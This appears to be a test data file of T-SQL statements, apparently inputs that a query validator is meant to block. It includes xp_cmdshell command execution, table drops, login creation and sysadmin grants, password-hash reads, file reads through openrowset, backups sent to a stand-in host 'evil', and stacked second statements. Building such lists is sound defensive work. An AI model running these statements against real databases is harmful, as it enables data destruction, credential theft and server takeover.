exec xp_cmdshell 'dir'
exec master..xp_cmdshell 'dir'
exec master.dbo.xp_cmdshell 'dir'
execute xp_cmdshell 'dir'
exec sp_executesql N'drop table victims'
exec sp_configure 'xp_cmdshell', 1
exec sp_addlogin 'eve', 'x'
exec sp_oacreate 'wscript.shell', @x
exec sp_who
exec ('drop table victims')
exec ('drop table victims') at evil
xp_cmdshell 'dir'
sp_who
sp_help victims
execute as user = 'dbo'
revert
waitfor delay '00:00:10'
waitfor time '23:00'
select 1 waitfor delay '00:00:10'
select * into #evil from customers
select * into evil..t from customers
select top 1 * into evil from customers
select 1 as a into evil
select * from customers with (updlock)
select * from customers with (xlock)
select * from customers with (tablock)
select * from customers with (tablockx)
select * from customers with (holdlock)
select * from customers with (rowlock)
select * from customers with (paglock)
select * from customers with (serializable)
select * from customers with (repeatableread)
select * from customers with (nolock, updlock)
select * from customers c (xlock, tablock)
select * from customers as c (holdlock)
select * from orders o join customers c ([xlock]) on o.customer_id = c.id
select * from customers c with (updlock, readpast) join orders o on o.id = c.id
select * from (select * from customers with (xlock)) x
select * from srv.shop.dbo.customers
select * from [srv].[shop].[dbo].[customers]
select * from srv...customers
select * from master..sysdatabases
select * from master.dbo.sysprocesses
select * from master.sys.databases
select * from msdb.dbo.sysjobs
select * from tempdb..#x
select * from tempdb.sys.objects
select * from other.dbo.customers
select * from other..customers
select * from [other].[dbo].[customers]
select * from customers, other.dbo.t
select * from customers where id in (select id from other.dbo.t)
select 1 union select a from other.dbo.t
with a as (select * from other..t) select * from a
select * from sys.server_principals
select * from sys.sql_logins
select * from sys.databases
select * from sys.master_files
select * from sys.configurations
select * from sys.dm_exec_sessions
select * from sys.dm_exec_requests
select * from sys.dm_exec_sql_text(0x01)
select * from sys.dm_os_sys_info
select * from sys.linked_logins
select * from sys.servers
select * from sys.credentials
select * from sys.syslogins
select * from sys.fn_my_permissions(null, 'server')
select * from sys.fn_xe_file_target_read_file('x', null, null, null)
select * from fn_trace_gettable('c:\x.trc', default)
select * from fn_get_audit_file('c:\*', null, null)
select * from ::fn_helpcollations()
select * from syslogins
select * from sysprocesses
select * from sysservers
select * from sysdatabases
select * from ##global
select * from openrowset(bulk 'c:\windows\win.ini', single_clob) x
select * from openrowset('sqloledb', 'evil';'sa';'', 'select 1')
select * from opendatasource('sqloledb', 'server=evil').shop.dbo.t
select * from openquery(evil, 'delete from t')
select * from openxml(1, '/a')
select * from openjson(@json)
select * from containstable(customers, name, 'x')
select * from freetexttable(customers, name, 'x')
select * from changetable(changes customers, 0) c
select * from external_table_function('x')
select next value for dbo.counter
select next value for counter over (order by id) from customers
select @x = id from customers
select @x += id from customers
select @@servername
select @@version, 1
select @@spid
select @@trancount
set @x = 1
set nocount on
set rowcount 0
set identity_insert victims on
set transaction isolation level read uncommitted
set context_info 0x01
declare @x int; select @x
declare @t table (a int)
declare @x nvarchar(100) = N'drop table victims'
if 1 = 1 drop table victims
if 1 = 1 select 1
if exists (select 1) delete from victims
while 1 = 1 select 1
begin select 1 end
begin try select 1 end try begin catch end catch
begin tran delete from victims
print 'x'
raiserror ('x', 16, 1)
throw 50000, 'x', 1
goto x
return
break
select 1 go drop table victims
select 1⏎go⏎drop table victims
select 1 drop table victims
select 1 delete from victims
select 1 exec sp_who
select 1 update victims set name = 'x'
select 1 insert into victims values (1, 'x')
update victims set name = 'x' output deleted.*
delete victims output deleted.* where id = 1
delete top (1) from victims
insert victims values (1, 'x')
insert into victims output inserted.* values (1, 'x')
insert into victims exec sp_who
insert bulk victims
insert into openrowset('x', 'y', 'z') values (1)
merge victims as t using customers as s on t.id = s.id when matched then delete output deleted.*
bulk insert victims from 'c:\x.txt'
backup database shop to disk = 'c:\x.bak'
backup log shop to disk = '\\evil\share\x'
restore database shop from disk = 'c:\x.bak'
restore headeronly from disk = '\\evil\x'
dbcc checkdb
dbcc shrinkdatabase (shop)
dbcc freeproccache
create login eve with password = 'x'
create assembly a from 'c:\evil.dll'
create certificate c from file = 'x'
create credential c with identity = 'x'
create endpoint e state = started as tcp (listener_port = 4022) for tsql ()
alter login sa enable
alter database shop set offline
alter server role sysadmin add member eve
alter authorization on database::shop to eve
deny select on victims to reader
disable trigger all on victims
enable trigger all on victims
drop login eve
reconfigure
shutdown with nowait
kill 53 with statusonly
open symmetric key k decryption by certificate c
receive top (1) * from queue
send on conversation 'x' ('y')
readtext t.c @p 0 10
writetext t.c @p 'x'
updatetext t.c @p 0 1 'x'
select dbo.evil(1)
select shop.dbo.evil(1)
select sys.fn_varbintohexstr(0x01)
select master.dbo.fn_varbintohexstr(0x01)
select fn_listextendedproperty('x', null, null, null, null, null, null)
select decryptbykey(0x01)
select signbycert(1, 'x')
select pwdencrypt('x')
select pwdcompare('x', 0x01)
select loginproperty('sa', 'PasswordHash')
select serverproperty('ErrorLogFileName')
select connectionproperty('client_net_address')
select session_context(N'x')
select context_info()
select eventdata()
select applock_mode('public', 'x', 'session')
select crypt_gen_random(8)
select textptr(a) from t
select newsequentialid()
select replicate('x', 1000000000)
select space(1000000000)
select replicate(cast('x' as varchar(max)), 2000000000)
select * from customers option (maxrecursion 0)
select * from customers option (recompile)
select * from customers option (querytraceon 8649)
select * from customers option (use plan N'x')
select * from customers for xml path
select * from customers for json auto
select * from customers for browse
select x.value('(/a)[1]', 'int') from t
select geography::Parse('POINT(0 0)')
select * from t for system_time all
select * from @t
select * from customers c cross apply dbo.evil(c.id) e
select * from customers c outer apply sys.dm_exec_sql_text(c.id) e
select * from customers where contains(name, @x)
select {fn user()} + {fn evil()}
{call xp_cmdshell('dir')}
{? = call sp_who}
select (select top 1 name from other..t)
